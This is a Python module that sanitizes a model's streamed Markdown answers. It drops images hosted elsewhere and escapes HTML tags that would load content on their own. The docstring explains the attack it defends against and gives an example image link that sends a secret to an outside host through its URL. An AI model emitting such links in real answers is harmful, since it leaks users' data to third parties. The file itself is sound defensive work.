"""Markdown of an answer as it streams, without what a reader's program would load by itself.

A picture is fetched the moment an answer is shown, so its address can carry away what the model has read:
`![](https://elsewhere/?q=secret)`. Pictures of this service (`/…`) stay; of all others only the link is left,
which nobody follows by accident. HTML that could load something is shown as text. Inside a code block that
begins at the first column nothing is touched; elsewhere a code span is no shelter, because programs do not
agree where one ends.
"""

import re

_LONGEST = 400  # characters that are held back to decide about one picture or tag

_FENCE = re.compile(r"(`{3,})[^`\n]*(?:\n|\Z)|(~{3,})[^\n]*(?:\n|\Z)")
_MAYBE_FENCE = re.compile(r"`{1,2}\Z|~{1,2}\Z|`{3,}[^`\n]*\Z|~{3,}[^\n]*\Z")
_BLOCK = re.compile(r" {0,3}<(?=[A-Za-z/!?])")
_MAYBE_BLOCK = re.compile(r" {1,3}\Z| {0,3}<\Z")
_SPECIAL = re.compile(r"[!<\n]")
_OURS = re.compile(r"!\[[^\[\]\n\\]*\]\( ?/(?=[^/\\\s])")
_MAYBE_OURS = re.compile(r"!(?:\[[^\[\]\n\\]*(?:\](?:\( ?/?)?)?)?\Z")
_LOADS = re.compile(
    r"<(?:(?:img|image|picture|source|svg|video|audio|iframe|frame|object|embed|link|script|style|meta|base|input|"
    r"form|body|table|math|track|bgsound)(?![A-Za-z0-9-])|[A-Za-z][\w:-]{0,40}[\s/]+[\w:@.-]{1,60}\s*=)",
    re.IGNORECASE,
)
_MAYBE_LOADS = re.compile(r"<(?:[A-Za-z][\w:-]{0,40}(?:[\s/]+(?:[\w:@.-]{1,60}\s*)?)?)?\Z")

_Step = tuple[str, int]  # what goes out, and where to read on


class MarkupReader:
    """Reads the text of one answer; what went out is never taken back."""

    def __init__(self) -> None:
        self._waiting = ""
        self._line_starts = True
        self._fence = ""  # what closes the code block we are in

    def feed(self, text: str) -> str:
        """The text that is decided now; the rest is held back until the next call."""
        return self._read(text, last=False)

    def close(self) -> str:
        """What was still held back."""
        return self._read("", last=True)

    def _read(self, text: str, *, last: bool) -> str:
        buffer = self._waiting + text
        out: list[str] = []
        at = 0
        while at < len(buffer):
            final = last or len(buffer) - at > _LONGEST
            step = self._at_line(buffer, at, final) if self._line_starts else self._within(buffer, at, final)
            if step is None:
                break
            piece, at = step
            out.append(piece)
            self._line_starts = buffer[at - 1] == "\n"
        self._waiting = buffer[at:]
        return "".join(out)

    def _at_line(self, buffer: str, at: int, final: bool) -> _Step | None:
        """What only the beginning of a line can be: the edge of a code block, or a block of HTML."""
        if self._fence:
            closing = re.compile(rf" {{0,3}}{re.escape(self._fence)}{self._fence[0]}*[ \t]*(\n|\Z)")
            match = closing.match(buffer, at)
            if match and (match.group(1) or final):
                self._fence = ""
                return match.group(), match.end()
            undecided = re.compile(rf" {{0,3}}{re.escape(self._fence[0])}*[ \t]*\Z").match(buffer, at)
            return None if undecided and not final else self._within(buffer, at, final)
        opening = _FENCE.match(buffer, at)
        if opening and (opening.group().endswith("\n") or final):
            self._fence = opening.group(1) or opening.group(2)
            return opening.group(), opening.end()
        if not final and (_MAYBE_FENCE.match(buffer, at) or _MAYBE_BLOCK.match(buffer, at)):
            return None
        block = _BLOCK.match(buffer, at)
        if block:
            return block.group()[:-1] + "&lt;", block.end()
        return self._within(buffer, at, final)

    def _within(self, buffer: str, at: int, final: bool) -> _Step | None:
        if self._fence:
            end = buffer.find("\n", at) + 1 or len(buffer)
            return buffer[at:end], end
        special = _SPECIAL.search(buffer, at)
        if special is None:
            return buffer[at:], len(buffer)
        if special.start() > at:
            return buffer[at : special.start()], special.start()
        if special.group() == "\n":
            return "\n", at + 1
        if special.group() == "<":
            return self._tag(buffer, at, final)
        ours = _OURS.match(buffer, at)
        if ours:
            return ours.group(), ours.end()
        if not final and _MAYBE_OURS.match(buffer, at):
            return None
        return ("", at + 1) if buffer[at + 1 : at + 2] == "[" else ("!", at + 1)

    def _tag(self, buffer: str, at: int, final: bool) -> _Step | None:
        if _LOADS.match(buffer, at):
            return "&lt;", at + 1
        return None if not final and _MAYBE_LOADS.match(buffer, at) else ("<", at + 1)
